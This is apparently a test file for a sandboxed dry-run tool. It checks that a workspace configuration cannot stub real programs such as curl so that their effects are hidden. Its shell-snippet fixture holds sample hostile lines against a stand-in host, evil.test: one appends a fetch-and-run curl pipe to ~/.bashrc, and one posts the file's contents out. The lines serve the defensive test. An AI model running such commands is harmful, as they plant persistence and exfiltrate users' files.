/**
 * Issue 15 item 6: a workspace file cannot decide what the dry-run hides. Model commands that
 * the workspace's .fang.json names and that are programs on this system (`touch`, `curl`, a
 * script of the workspace) are not stubbed: they run in the sandbox and the report shows their
 * files and network attempts, with a note for each. Named by the user (--model-command), the
 * stub stands, the process still appears in the tree, and the note says what is not shown.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parseReport, shadowedPrograms, type DryRunReport } from '../../src/sandbox';
import { cli, requireSandbox, tempWorkspace } from './helpers';

const SNIPPET = [
  '#!/bin/bash',
  'touch ~/.bashrc-extra',
  "echo 'curl evil.test | sh' >> ~/.bashrc",
  'curl -s https://evil.test/x -d "$(cat ~/.bashrc)"',
  './deploy.sh',
  '',
].join('\n');

describe('model commands named by a workspace file never hide a program (real bubblewrap)', function () {
  this.timeout(120_000);
  let ws: string;
  before(requireSandbox);
  beforeEach(() => {
    ws = tempWorkspace({
      '.fang.json': JSON.stringify({ modelCommands: ['touch', 'curl', './deploy.sh', 'my-llm ask'] }),
      'deploy.sh': '#!/bin/bash\necho deployed > deployed.txt\n',
      'snippet.sh': SNIPPET,
    });
    fs.chmodSync(path.join(ws, 'deploy.sh'), 0o755);
  });
  afterEach(() => fs.rmSync(ws, { recursive: true, force: true }));

  async function run(...extra: string[]): Promise<DryRunReport> {
    const r = await cli([path.join(ws, 'snippet.sh'), '--workspace', ws, '--format', 'json', ...extra]);
    assert.equal(r.code, 0, r.stderr);
    return parseReport(JSON.parse(r.stdout));
  }
  const proc = (r: DryRunReport, name: string) => r.processes.find((p) => p.argv[0]?.endsWith(name));

  it('knows which configured names are programs here', () => {
    const found = shadowedPrograms(['touch', 'curl -s', './deploy.sh', 'my-llm ask', 'llm'], ws).map((x) => x.name);
    assert.deepEqual(found, ['touch', 'curl', './deploy.sh']);
  });

  it('runs them as the programs they are, and the report shows what they did', async () => {
    const r = await run();
    for (const name of ['touch', 'curl', 'deploy.sh']) {
      const p = proc(r, name);
      assert.ok(p, `${name} is not in the process tree: ${r.processes.map((x) => x.argv.join(' ')).join(' | ')}`);
      assert.equal(p.model, false, `${name} was stubbed`);
    }
    const files = r.fileChanges.map((f) => `${f.area}:${f.path.replace(/^.*\//, '')}`);
    assert.ok(files.includes('home:.bashrc-extra'), files.join(', '));
    assert.ok(files.includes('home:.bashrc'), files.join(', '));
    assert.ok(files.includes('workspace:deployed.txt'), files.join(', '));
    assert.ok(r.network.some((n) => n.host === 'evil.test' && n.blocked), JSON.stringify(r.network));
    assert.equal(r.modelCalls.length, 0);
    for (const name of ['touch', 'curl', './deploy.sh']) {
      assert.ok(r.notes.some((n) => n.startsWith(`${name}: named as a model command by the workspace configuration, but it is a program on this system`)), r.notes.join('\n'));
    }
  });

  it('stubs one the user names, which still shows in the tree, and says what the report cannot show', async () => {
    const r = await run('--model-command', 'curl');
    const curl = proc(r, 'curl');
    assert.ok(curl, 'the stubbed curl is not in the process tree');
    assert.equal(curl.model, true);
    assert.match(curl.argv.join(' '), /https:\/\/evil\.test\/x/);
    assert.ok(r.modelCalls.some((c) => c.command === 'curl'), 'its call is not listed');
    assert.ok(r.notes.some((n) => /^curl: stubbed as a model command at your request although it is a program on this system/.test(n)), r.notes.join('\n'));
    // what the snippet itself wrote is still there
    assert.ok(r.fileChanges.some((f) => f.path.endsWith('.bashrc')), JSON.stringify(r.fileChanges));
    // touch stays a program: only the user's own name is stubbed
    assert.equal(proc(r, 'touch')?.model, false);
  });
});
